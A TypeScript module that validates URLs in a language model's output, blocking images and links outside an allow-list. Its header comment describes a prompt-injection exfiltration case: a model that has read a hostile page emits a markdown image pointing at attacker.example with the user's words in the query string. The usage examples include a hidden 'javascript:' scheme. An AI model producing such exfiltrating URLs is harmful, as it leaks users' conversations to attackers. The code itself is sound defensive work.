/**
 * Checks the URLs in a model's text before a page uses them. A model that has read a hostile page can write
 * `![](https://attacker.example/?q=…)` with the user's words in the URL. A browser fetches an image without a click, so the attacker gets
 * the words. HTML sanitizers do not remove such a URL, because it is valid.
 *
 * @see https://url.spec.whatwg.org/#url-parsing
 *
 * @module
 */
import { checkOptions } from './core/checks.ts'

/** The URLs that are safe. Origins are written as `https://docs.example`, with a port if it is not the default. */
export interface UrlPolicy {
  /** `all`, the default: `https:`, `http:` and `mailto:`. A list: only these origins; `mailto:` in it allows mail. */
  readonly links?: 'all' | 'none' | readonly string[]
  /**
   * `none`, the default: no image that needs a request. `same-origin`: images of the origin of `base`. A list: only these origins. `data:`
   * images need no request. They are always safe if they are PNG, JPEG, GIF, WebP or AVIF in base64.
   */
  readonly images?: 'none' | 'same-origin' | readonly string[]
  /** The base of relative URLs: the URL of the page. Default: relative URLs are not safe. */
  readonly base?: string
  /** The maximum length of a URL, in characters, except for `data:`. Default 2048. A long URL can contain a whole conversation. */
  readonly maxLength?: number
}

const dataPicture = /^data:image\/(?:png|jpeg|gif|webp|avif);base64,[a-z\d+/]+={0,2}$/i

/**
 * A URL of a model's text, as a browser reads it; `undefined` if it is not safe. Use the returned URL, not the original: a browser ignores
 * white space and control characters, which could hide a scheme from other checks.
 *
 * @param use `link`: a user clicks the URL. `image`: the browser fetches the URL by itself; also for media, frames and styles.
 * @throws {TypeError} if a URL in the policy is not valid.
 * @example
 * ```ts
 * import { safeUrl } from 'isoglot/safe-url'
 *
 * safeUrl('https://docs.example/a b', 'link') // https://docs.example/a%20b
 * safeUrl('java\nscript:alert(1)', 'link') // undefined
 * safeUrl('https://docs.example/a.png', 'image') // undefined
 * safeUrl('https://docs.example/a.png', 'image', { images: ['https://docs.example'] }) // the same address
 * ```
 */
export function safeUrl(url: string, use: 'link' | 'image', policy: UrlPolicy = {}): string | undefined {
  checkOptions('safeUrl', policy)
  const { links = 'all', images = 'none', base, maxLength = 2048 } = policy
  if (use === 'image' && dataPicture.test(url)) return url
  const home = base === undefined ? undefined : policyUrl(base)
  if (url.length > maxLength || !URL.canParse(url, home?.href)) return undefined
  const { protocol, origin, href, username, password } = new URL(url, home?.href)
  if (username !== '' || password !== '' || href.length > maxLength) return undefined
  const isMail = protocol === 'mailto:' && use === 'link'
  // `blob:` also has an origin.
  if (!isMail && protocol !== 'https:' && protocol !== 'http:') return undefined
  const allowed = use === 'link' ? links : images === 'same-origin' ? [home?.origin ?? ''] : images
  if (allowed === 'none') return undefined
  if (allowed === 'all') return href
  const isAllowed = isMail ? allowed.includes('mailto:') : allowed.some((one) => originOf(one) === origin)
  return isAllowed ? href : undefined
}

/** Compares origins, not texts: a text that begins like an allowed origin may be another host. */
function originOf(allowed: string): string {
  return allowed === 'mailto:' || allowed === '' ? '' : policyUrl(allowed).origin
}

function policyUrl(address: string): URL {
  if (URL.canParse(address) && /^https?:$/.test(new URL(address).protocol)) return new URL(address)
  throw new TypeError(`Cannot check a URL: "${address}" in the policy is not an origin such as "https://docs.example"`)
}
